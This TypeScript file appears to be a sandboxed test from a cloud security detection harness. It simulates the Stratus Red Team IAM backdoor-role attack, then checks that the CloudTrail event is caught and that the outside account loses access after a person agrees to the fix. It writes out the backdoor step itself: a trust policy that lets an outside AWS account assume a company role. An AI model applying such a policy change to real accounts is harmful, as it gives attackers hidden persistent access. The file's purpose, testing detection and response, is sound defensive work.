import { IAMClient, UpdateAssumeRolePolicyCommand } from '@aws-sdk/client-iam';
import { AssumeRoleCommand, STSClient } from '@aws-sdk/client-sts';
import type { Attack } from '../../support/attack.ts';
import { holding } from '../../support/attacker.ts';
import { production } from '../../support/company.ts';
import { readEvent, withMembers } from '../../support/events.ts';

const PolicyDocument = JSON.stringify({
  Version: '2012-10-17',
  Statement: [
    { Effect: 'Allow', Principal: { Service: 'ec2.amazonaws.com' }, Action: 'sts:AssumeRole' },
    { Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::210987654321:root' }, Action: 'sts:AssumeRole' },
  ],
});

/** The way back in: a role of the company that an account of the attacker's may assume. */
export const attack: Attack = {
  title: 'A role is made to trust an account of the attacker’s',
  known: 'Stratus Red Team aws.persistence.iam-backdoor-role',
  answer: 'Once a person has agreed, the stranger is taken out of the trust policy; the machines stay in it',
  clouds: ['aws'],
  async play({ sandbox, works, fails, arrives, agreed }) {
    const iam = new IAMClient(holding(sandbox, 'ASIASAMLADMIN0000001'));
    await iam.send(new UpdateAssumeRolePolicyCommand({ RoleName: 'web-server', PolicyDocument }));
    const stranger = new STSClient(holding(sandbox, 'AKIASTRANGER00000001'));
    const RoleArn = `arn:aws:iam::${production}:role/web-server`;
    await works('takes the role from outside', () =>
      stranger.send(new AssumeRoleCommand({ RoleArn, RoleSessionName: 'back-again' })),
    );
    await arrives(
      withMembers(readEvent('cloudtrail/key-for-other-user'), {
        'detail.eventName': 'UpdateAssumeRolePolicy',
        'detail.requestParameters': { roleName: 'web-server', policyDocument: PolicyDocument },
        'detail.responseElements': null,
      }),
    );
    await agreed();
    await fails('takes the role from outside');
  },
};
